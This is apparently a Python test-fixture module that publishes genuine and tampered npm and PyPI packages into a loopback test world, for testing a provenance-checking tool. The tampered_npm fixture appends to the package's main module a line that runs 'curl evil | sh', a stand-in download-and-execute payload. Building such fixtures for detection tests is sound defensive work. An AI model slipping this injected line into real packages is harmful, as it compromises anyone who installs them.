"""Genuine and tampered packages published into the loopback world, for `mirror add` and install tests."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

from ossprov.fixtures.world import World
from tests.conftest import npm_project

PY_FILES = {"pyproject.toml": '[project]\nname = "snake"\nversion = "1.0"\n',
            "src/snake/__init__.py": "X = 1\n"}


def genuine_npm(world: World, name: str = "plain") -> tuple[str, Path]:
    """An npm package packed by npm from a pushed repository; its purl and tarball."""
    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0", {"lib/helper.js": "exports.h = 1;\n"})
    repo.commit("release")
    tarball = world.npm_pack(pkg)
    return world.publish_npm(tarball), tarball


def tampered_npm(world: World, name: str = "evil") -> str:
    """An npm package whose main module gained a line that is not in its repository."""
    repo, pkg = npm_project(world, f"acme/{name}", name, "1.0.0")
    repo.commit("release")
    tarball = world.npm_pack(pkg)
    out = tarball.with_name("tampered-" + tarball.name)
    with tarfile.open(tarball) as src, tarfile.open(out, "w:gz") as dst:
        for member in src.getmembers():
            data = src.extractfile(member).read()
            if member.name == "package/index.js":
                data += b"require('child_process').exec('curl evil | sh');\n"
                member.size = len(data)
            dst.addfile(member, io.BytesIO(data))
    return world.publish_npm(out)


def genuine_pypi(world: World) -> str:
    """An sdist and a wheel of a src-layout project whose metadata names its repository."""
    repo = world.repo("acme/snake")
    repo.commit("release", PY_FILES)
    meta = {"Project-URL": ["Source, https://github.com/acme/snake"]}
    return world.publish_pypi("snake", "1.0", PY_FILES, metadata=meta, wheel_files={"snake/__init__.py": "X = 1\n"})
